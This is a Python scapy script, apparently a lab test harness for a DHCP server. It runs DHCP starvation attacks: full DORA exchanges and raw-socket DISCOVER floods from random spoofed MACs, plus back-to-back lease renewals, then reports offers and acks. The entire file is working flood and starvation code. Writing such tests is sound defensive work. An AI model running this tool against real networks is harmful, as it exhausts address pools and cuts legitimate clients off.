#!/usr/bin/python3
"""DHCP starvation attacks for tests/attack_dhcp.rs (run inside a client
namespace of the lab; never aimed anywhere else).

  dhcp_flood.py dora IFACE COUNT SECONDS      full DORA for COUNT random MACs
  dhcp_flood.py discover IFACE COUNT SECONDS  DISCOVERs only from random MACs
  dhcp_flood.py renew IFACE COUNT SECONDS     one lease, then COUNT renewals

Both stop after COUNT MACs or SECONDS, whichever comes first, and print one
JSON line of what the attacker saw (offers and acks received).
"""
import json
import random
import socket
import sys
import time

from scapy.all import BOOTP, DHCP, IP, UDP, AsyncSniffer, Ether, conf

conf.verb = 0


def rand_mac():
    # Locally administered unicast, like a MAC-rotating attacker's; the
    # first byte tells the flood's replies from the honest client's.
    b = [0x06] + [random.randrange(256) for _ in range(5)]
    return ":".join("%02x" % x for x in b)


def frame(mac, xid, options):
    return (
        Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")
        / IP(src="0.0.0.0", dst="255.255.255.255")
        / UDP(sport=68, dport=67, chksum=0)
        / BOOTP(chaddr=bytes.fromhex(mac.replace(":", "")), xid=xid, flags=0x8000)
        / DHCP(options=options + ["end"])
    )


def msg_type(p):
    for o in p[DHCP].options:
        if isinstance(o, tuple) and o[0] == "message-type":
            return o[1]
    return None


def server_id(p):
    for o in p[DHCP].options:
        if isinstance(o, tuple) and o[0] == "server_id":
            return o[1]
    return None


def main():
    mode, iface, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    # Requests go out through scapy; the DISCOVERs, the bulk, through a raw
    # socket from a template with MAC and xid patched in (UDP checksum 0 =
    # none), so Python's speed is the only limit.
    sock = conf.L2socket(iface=iface)
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((iface, 0))
    tmpl = bytearray(bytes(frame("02:00:00:00:00:00", 0, [("message-type", "discover")])))
    xids = {}
    seen = {"offers": 0, "acks": 0, "naks": 0}
    acked = set()

    def on_reply(p):
        if DHCP not in p or p[BOOTP].chaddr[0] != 0x06:
            return
        t = msg_type(p)
        mac = xids.get(p[BOOTP].xid)
        if t == 2:
            seen["offers"] += 1
            if mac is not None:
                sock.send(frame(mac, p[BOOTP].xid, [
                    ("message-type", "request"),
                    ("server_id", server_id(p)),
                    ("requested_addr", p[BOOTP].yiaddr),
                ]))
        elif t == 5:
            seen["acks"] += 1
            acked.add(p[BOOTP].yiaddr)
        elif t == 6:
            seen["naks"] += 1

    sniffer = AsyncSniffer(
        iface=iface,
        store=False,
        prn=on_reply,
        lfilter=lambda p: UDP in p and p[UDP].sport == 67,
    )
    sniffer.start()
    time.sleep(0.5)
    start = time.time()
    sent = 0
    if mode == "renew":
        sent = renew(sock, raw, xids, acked, count, seconds)
    while mode != "renew" and sent < count and time.time() - start < seconds:
        mac, xid = rand_mac(), random.getrandbits(32)
        if mode == "dora":
            xids[xid] = mac
        m = bytes.fromhex(mac.replace(":", ""))
        tmpl[6:12] = m
        tmpl[70:76] = m
        tmpl[46:50] = xid.to_bytes(4, "big")
        try:
            raw.send(tmpl)
        except OSError:
            continue  # a full socket buffer: the flood just goes on
        sent += 1
        if mode == "dora":
            # Paced at 100 new MACs a second (the reported attack bound 253 in ~5 s), so the
            # server's answers, not the sender, set the speed.
            time.sleep(0.01)
    # Let the last answers (and REQUESTs) land.
    time.sleep(min(2.0, max(0.0, seconds - (time.time() - start)) + 1.0))
    sniffer.stop()
    print(json.dumps({
        "mode": mode,
        "discovers": sent,
        "seconds": round(time.time() - start, 2),
        "offers": seen["offers"],
        "acks": seen["acks"],
        "naks": seen["naks"],
        "addresses": len(acked),
    }))


def renew(sock, raw, xids, acked, count, seconds):
    """DORA for one MAC, then RENEWING REQUESTs (ciaddr set) back to back."""
    mac, xid = rand_mac(), random.getrandbits(32)
    xids[xid] = mac
    sock.send(frame(mac, xid, [("message-type", "discover")]))
    deadline = time.time() + 5
    while not acked and time.time() < deadline:
        time.sleep(0.05)
    if not acked:
        return 0
    ip = next(iter(acked))
    req = frame(mac, xid, [("message-type", "request")])
    req[BOOTP].ciaddr = ip
    pkt = bytes(req)
    start = time.time()
    sent = 0
    while sent < count and time.time() - start < seconds:
        try:
            raw.send(pkt)
            sent += 1
        except OSError:
            pass
    return sent


if __name__ == "__main__":
    main()
